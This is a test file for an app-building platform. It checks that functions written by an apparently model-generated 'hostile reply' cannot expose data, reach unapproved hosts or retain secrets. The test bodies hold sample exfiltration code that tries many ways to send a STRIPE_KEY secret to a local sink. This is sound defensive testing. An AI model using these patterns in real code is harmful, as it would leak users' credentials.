import { expect } from 'chai';
import { functionThat, hiddenWays, sideWays, waysOut } from './hostile-functions.js';
import type { HostileWorld } from './hostile-world.js';
import { rowMark, secretMark, startHostileWorld } from './hostile-world.js';

const functionFiles = (ways: Readonly<Record<string, string>>, sink: string) =>
  Object.fromEntries(
    Object.entries(ways).map(([name, attempt]) => [`functions/${name}.js`, functionThat(attempt, { sink })]),
  );

describe('What a hostile reply writes', () => {
  let world: HostileWorld;
  before(async () => {
    world = await startHostileWorld('sqlite');
  });
  after(() => world?.stop());
  beforeEach(() => world.sink.forget());

  const nothingArrived = () => {
    expect(world.sink.received).to.deep.equal([]);
    expect(world.sink.connections()).to.equal(0);
  };

  it('opens no rows and no functions of the preview to those who do not build the app', async () => {
    const appId = await world.newShop();
    const published = (await world.publish(appId)).replace(/\/$/, '');
    const open = {
      'entities/Customer.json': JSON.stringify({
        properties: { name: { type: 'string' } },
        'x-accessControl': { permissions: { read: 'anonymous', write: 'anonymous' } },
      }),
    };
    const hook = functionThat('return JSON.stringify(await context.service.entities.Customer.list());', {
      sink: '',
    });
    await world.replyWith(appId, { ...open, 'functions/hook.js': hook });
    const preview = await world.previewOrigin(appId);
    for (const path of ['entities/Customer', 'functions/hook'])
      for (const [origin, statuses] of [
        [preview, [401]],
        [published, [401, 403, 404]],
        [world.url, [401]],
      ] as const) {
        const answer = await world.get(`${origin}/api/apps/${appId}/${path}`);
        expect(statuses, `${origin} ${path}`).to.include(answer.status);
        expect(await answer.text()).to.not.include(rowMark);
      }
  });

  it('reaches no host from functions that nobody allowed, in the preview and published', async () => {
    const { sink } = world;
    const appId = await world.newShop();
    const ways = { ...waysOut, ...hiddenWays };
    const files = functionFiles(ways, sink.at('').replace(/\/$/, ''));
    expect(await world.replyWith(appId, files)).to.equal('done');
    for (const name of Object.keys(ways)) await world.callEverywhere(appId, name, undefined);
    nothingArrived();
    const published = await world.publish(appId);
    const answers = new Map<string, string[]>();
    for (const name of Object.keys(ways))
      answers.set(name, await world.callEverywhere(appId, name, published));
    nothingArrived();
    for (const name of Object.keys(waysOut))
      expect(answers.get(name)?.at(-1), name).to.equal(
        name === 'late' ? 'did functions/host-not-allowed' : 'failed functions/host-not-allowed',
      );
    const { hosts } = await world.rights().listFunctionHosts({ params: { appId } });
    expect(hosts.map(({ host, state }) => [host, state])).to.deep.equal([['127.0.0.1', 'asked']]);

    // Without this, the rest would prove nothing.
    await world.allow(appId, ['127.0.0.1']);
    for (const name of Object.keys(ways)) await world.callEverywhere(appId, name, published);
    const arrived = new Map(sink.received.map((request) => [request.path.slice(1).split('?')[0], request]));
    expect([...arrived.keys()]).to.include.members(Object.keys(waysOut));
    expect(decodeURIComponent(arrived.get('rows')?.path ?? '')).to.include(rowMark);
    for (const name of Object.keys(hiddenWays))
      expect(decodeURIComponent(arrived.get(name)?.path ?? '')).to.not.match(
        /quillmark|marmalade|placeholder/,
      );
  });

  it('reaches nothing around the way out, and nothing while it is loaded', async () => {
    const { sink } = world;
    const appId = await world.newShop();
    const at = sink.at('').replace(/\/$/, '');
    const top = `globalThis.sent = await fetch(at('top')).then(() => 'top', (error) => error.code);`;
    await world.replyWith(appId, {
      ...functionFiles(sideWays(sink.port), at),
      'functions/top.js': functionThat('return globalThis.sent;', { sink: at, top }),
      'functions/linked.js': `import '${sink.at('/linked.js')}';\n${functionThat('', { sink: at })}`,
      'functions/again.js': `export { default } from '${sink.at('/again.js')}';`,
    });
    const published = await world.publish(appId);
    const visit = (name: string) =>
      world.get(`${published.replace(/\/$/, '')}/api/apps/${appId}/functions/${name}`);
    for (const [name, way] of Object.entries(sideWays(sink.port)))
      expect(await (await visit(name)).text(), way).to.not.equal('did worked');
    for (const answer of await world.callEverywhere(appId, 'top', published))
      expect(answer).to.equal('did functions/host-not-allowed');
    for (const name of ['linked', 'again']) await world.callEverywhere(appId, name, published);
    nothingArrived();
  });

  it('never holds the text of a secret, also of one that it may send', async () => {
    const { sink } = world;
    const appId = await world.newShop();
    const show = `export const access = 'anyone';
export default async (request, context) => {
  const seen = [];
  const see = async (what) => { try { seen.push(await what()); } catch (error) { seen.push(String(error?.message), error?.code); } };
  const key = context.secrets.STRIPE_KEY;
  const all = context['secrets'];
  console.log('key', key, JSON.stringify(all), Object.values(all).join());
  seen.push(key, all);
  const ask = (path, init) => async () => {
    const answer = await fetch('${sink.at('')}'.replace(/\\/$/, '') + path, init);
    return [answer.url, [...answer.headers], answer.status];
  };
  await see(ask('/pay?key=' + encodeURIComponent(key)));
  await see(ask('/' + key + '?key=' + key, { method: 'POST', body: key, headers: { 'x-key': key } }));
  await see(ask('/echo?k=' + key + '&to=/next%3Fk=' + key + '&as=302'));
  await see(ask('/echo?k=' + key + '&to=/manual%3Fk=' + key, { redirect: 'manual' }));
  await see(ask('/echo?to=http://localhost:${sink.port}/%3Fk=' + key));
  await see(() => fetch('http://user:' + key + '@127.0.0.1:${sink.port}/user').then(({ url }) => url));
  await see(() => fetch('http://' + key + '.127.0.0.1:${sink.port}/').then(({ url }) => url));
  await see(() => fetch('http://[' + key + '/').then(({ url }) => url));
  await see(() => context.service.entities.Customer.create({ name: key }));
  await see(() => context.entities.Note.create({ text: JSON.stringify(all) }));
  console.error(new Error('with ' + key), seen);
  if (new URL(request.url).search) throw new Error('with ' + key);
  return Response.json(seen, { headers: { 'x-key': key } });
};`;
    await world.replyWith(appId, { 'functions/show.js': show });
    await world.allow(appId, ['127.0.0.1', 'localhost']);
    await world.confirm(appId, 'show');
    const published = await world.publish(appId);
    const answers = await world.callEverywhere(appId, 'show', published);
    const failed = await world.get(`${world.url}/api/apps/${appId}/functions/show?fail=1`, {
      headers: { authorization: `Bearer ${world.ada.token}` },
    });
    expect(sink.received.map(({ body }) => body)).to.include(secretMark);
    const { functions } = { functions: await world.functionsOf(appId) };
    const kept = [
      ...answers,
      await failed.text(),
      JSON.stringify(functions),
      JSON.stringify(await world.recordsOf(appId, 'Customer')),
      JSON.stringify(await world.recordsOf(appId, 'Note')),
      JSON.stringify(await world.db('function_logs')),
      JSON.stringify(await world.db('function_traffic')),
      JSON.stringify(world.model.requests),
    ];
    expect(answers[0]).to.include('placeholder_STRIPE_KEY');
    for (const text of kept)
      for (const part of ['marmalade', encodeURIComponent(secretMark)]) expect(text).to.not.include(part);
    // The secret is for the other host alone.
    expect(sink.received.filter(({ host }) => host.startsWith('localhost'))).to.deep.equal([]);
  });
});
